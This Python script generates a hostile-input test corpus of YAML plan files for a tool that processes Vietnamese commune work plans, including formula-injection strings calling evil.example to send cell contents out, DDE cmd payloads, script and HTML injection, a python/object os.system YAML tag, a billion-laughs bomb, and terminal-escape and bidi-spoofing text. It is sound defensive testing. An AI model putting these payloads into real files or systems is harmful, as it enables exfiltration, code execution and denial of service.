"""Write the hostile-input corpus next to this script (run: python tests/hostile/make_corpus.py).

Each file is a way a clerk's plan file really goes wrong: legacy encodings, invisible
characters, YAML features that lose or invent data, broken syntax. ``tests/test_hostile.py``
says, for each file, the exact exit status and message every command must give.
"""

from __future__ import annotations

import unicodedata
from pathlib import Path

HERE = Path(__file__).resolve().parent

VALID = """\
plan:
  title: Kế hoạch thử
  year: 2024
  agency: {name: Ủy ban nhân dân xã Thử, place: Thử}
officials:
  vp-tk: {title: Công chức Văn phòng - Thống kê}
  tc-kt: {title: Công chức Tài chính - Kế toán}
sections:
  - id: "1"
    title: Cải cách thể chế
    tasks:
      - id: 1.a
        title: Ban hành kế hoạch
        lead: [tc-kt]
        timeline: Quý I/2024 ban hành kế hoạch.
        milestones:
          - what: Ban hành kế hoạch
            due: Quý I/2024
"""

INJECTION = """\
plan:
  title: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")'
  year: 2024
  agency: {name: '=1+1+WEBSERVICE("http://evil.example/")', place: '@SUM(1+1)*cmd|"/c calc"!A0'}
officials:
  vp-tk: {title: '+Công chức <b>Văn phòng</b>'}
sections:
  - id: "1"
    title: '-2+3 <img src=x onerror=alert(1)>'
    tasks:
      - id: 1.a
        title: '=HYPERLINK("http://evil.example/?d="&A1,"Mở") <script>alert(1)</script>'
        lead: [vp-tk]
        timeline: "\\tQuý I/2024 [bấm](javascript:alert(1))"
        milestones:
          - what: '=cmd|"/c calc"!A0 ![](http://evil.example/p.png)'
            due: 2024-03-31
            done: 2024-03-20
            note: '[tải](http://evil.example/x) & <iframe src=//evil.example>'
          - what: '@SUM(A1:A9) [x]: http://evil.example/'
            due: 2024-06-30
        notes:
          - {date: 2024-03-05, text: "\\r=1+1 <a href=javascript:alert(1)>bấm</a>"}
"""

_KEEP_COMPOSED = {"\u0302", "\u0306", "\u031b"}  # circumflex, breve, horn: â ê ô ă ơ ư


def cp1258(text: str) -> bytes:
    """Encode as Windows-1258: letters with â/ă/ơ… precomposed, tone marks combining."""
    out = []
    for char in unicodedata.normalize("NFC", text):
        try:
            out.append(char.encode("cp1258"))
            continue
        except UnicodeEncodeError:
            pass
        base, *marks = unicodedata.normalize("NFD", char)
        kept = [m for m in marks if m in _KEEP_COMPOSED]
        tones = [m for m in marks if m not in _KEEP_COMPOSED]
        out.append(unicodedata.normalize("NFC", base + "".join(kept)).encode("cp1258"))
        out.append("".join(tones).encode("cp1258"))
    return b"".join(out)


def corpus() -> dict[str, bytes]:
    utf8 = VALID.encode("utf-8")
    bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for index in range(1, 9):
        prev = chr(ord("a") + index - 1)
        name = chr(ord("a") + index)
        bomb.append(f"{name}: &{name} [{','.join(['*' + prev] * 9)}]")
    return {
        "windows-1258.yaml": cp1258(VALID),
        "utf-16.yaml": VALID.encode("utf-16"),
        "bom-crlf.yaml": b"\xef\xbb\xbf" + VALID.replace("\n", "\r\n").encode("utf-8"),
        "nfd.yaml": unicodedata.normalize("NFD", VALID).encode("utf-8"),
        "duplicate-key-deep.yaml": VALID.replace(
            "            due: Quý I/2024\n",
            "            due: Quý I/2024\n            due: Quý II/2024\n",
        ).encode(),
        "duplicate-top-key.yaml": (VALID + "officials:\n  x: {title: X}\n").encode(),
        "alias.yaml": VALID.replace(
            "lead: [tc-kt]", "lead: &nguoi [tc-kt]\n        support: *nguoi"
        ).encode(),
        "billion-laughs.yaml": ("\n".join(bomb) + "\n").encode(),
        "python-tag.yaml": VALID.replace(
            "title: Ban hành kế hoạch", 'title: !!python/object/apply:os.system ["echo hỏng"]'
        ).encode(),
        "yaml11-words.yaml": VALID.replace("tc-kt", "no")
        .replace("title: Ban hành kế hoạch", "title: yes")
        .replace("what: Ban hành kế hoạch", "what: 010")
        .replace("title: Cải cách thể chế", "title: on")
        .replace("timeline: Quý I/2024 ban hành kế hoạch.", "timeline: 2024-03-31")
        .encode(),
        "impossible-date.yaml": VALID.replace("due: Quý I/2024", "due: 2024-02-30").encode(),
        "cut-by-comment.yaml": VALID.replace(
            "title: Ban hành kế hoạch", "title: Việc #1 quan trọng"
        ).encode(),
        "nbsp-after-colon.yaml": VALID.replace("year: 2024", "year:\u00a02024").encode(),
        "next-line-char.yaml": VALID.replace("Kế hoạch thử", "Kế hoạch\u0085thử").encode(),
        "line-separator.yaml": VALID.replace("Kế hoạch thử", "Kế hoạch\u2028thử").encode(),
        "control-char.yaml": VALID.replace(
            "Ban hành kế hoạch\n", "Ban hành\x0bkế hoạch\n", 1
        ).encode(),
        "empty.yaml": b"",
        "only-comment.yaml": b"# chua co gi\n",
        "list-root.yaml": b"- plan\n- officials\n",
        "scalar-root.yaml": "Kế hoạch năm 2024\n".encode(),
        "deep-nesting.yaml": b"a: " + b"[" * 20000 + b"]" * 20000 + b"\n",
        "tab-indent.yaml": VALID.replace("  year: 2024", "\tyear: 2024").encode(),
        "unclosed-quote.yaml": VALID.replace(
            "title: Kế hoạch thử", 'title: "Kế hoạch thử'
        ).encode(),
        "two-documents.yaml": (VALID + "---\nplan: {}\n").encode(),
        "truncated.yaml": utf8[: utf8.index(b"timeline")],
        "empty-title.yaml": VALID.replace("title: Ban hành kế hoạch", "title:").encode(),
        "bool-title.yaml": VALID.replace("title: Ban hành kế hoạch", "title: true").encode(),
        "complex-key.yaml": (VALID + "? [a, b]\n: x\n").encode(),
        "unknown-official.yaml": VALID.replace("lead: [tc-kt]", "lead: [ke-toan]").encode(),
        "conflict-markers.yaml": VALID.replace(
            "        title: Ban hành kế hoạch\n",
            "<<<<<<< HEAD\n        title: Ban hành kế hoạch\n=======\n"
            "        title: Ban hành kế hoạch năm\n>>>>>>> nhanh-van-phong\n",
        ).encode(),
        "missing-colon.yaml": VALID.replace(
            "title: Ban hành kế hoạch", "title Ban hành kế hoạch"
        ).encode(),
        "no-space-after-colon.yaml": VALID.replace(
            "title: Ban hành kế hoạch", "title:Ban hành kế hoạch"
        ).encode(),
        "unclosed-bracket.yaml": VALID.replace("lead: [tc-kt]", "lead: [tc-kt").encode(),
        "escaped-vertical-tab.yaml": VALID.replace(
            "title: Ban hành kế hoạch", 'title: "Ban hành\\x0bkế & <b>hoạch"'
        ).encode(),
        "escaped-nul.yaml": VALID.replace(
            "title: Ban hành kế hoạch", 'title: "Ban hành\\u0000kế hoạch"'
        ).encode(),
        "escaped-escape.yaml": VALID.replace(
            "title: Ban hành kế hoạch", 'title: "Ban hành\\x1b[31mkế hoạch"'
        ).encode(),
        "escaped-surrogate.yaml": VALID.replace(
            "title: Ban hành kế hoạch", 'title: "Ban hành\\ud800kế hoạch"'
        ).encode(),
        "note-eaten-by-comment.yaml": (VALID + "            note: #5 đã ban hành\n").encode(),
        "done-without-date.yaml": (VALID + "            done:\n").encode(),
        "colon-in-text.yaml": VALID.replace(
            "title: Ban hành kế hoạch", "title: Sản phẩm: kế hoạch"
        ).encode(),
        # Terminal attacks: a C1 CSI (U+009B, like ESC [) typed raw or as an escape, and a
        # right-to-left override that makes a title read differently from what it is.
        "c1-csi.yaml": VALID.replace(
            "Ban hành kế hoạch\n", "Ban hành\u009b2Jkế hoạch\n", 1
        ).encode(),
        "escaped-c1.yaml": VALID.replace(
            "title: Ban hành kế hoạch", 'title: "Ban hành\\u009b2Jkế hoạch"'
        ).encode(),
        "bidi-override.yaml": VALID.replace(
            "title: Ban hành kế hoạch", "title: Ban hành \u202ehcaoh ếk\u202c"
        ).encode(),
        # A valid plan whose text attacks what is made from it: spreadsheet formulas (OWASP
        # formula injection) and HTML, script, links and remote images in Markdown.
        "injection.yaml": INJECTION.encode(),
    }


def main() -> None:
    for name, content in corpus().items():
        (HERE / name).write_bytes(content)


if __name__ == "__main__":
    main()
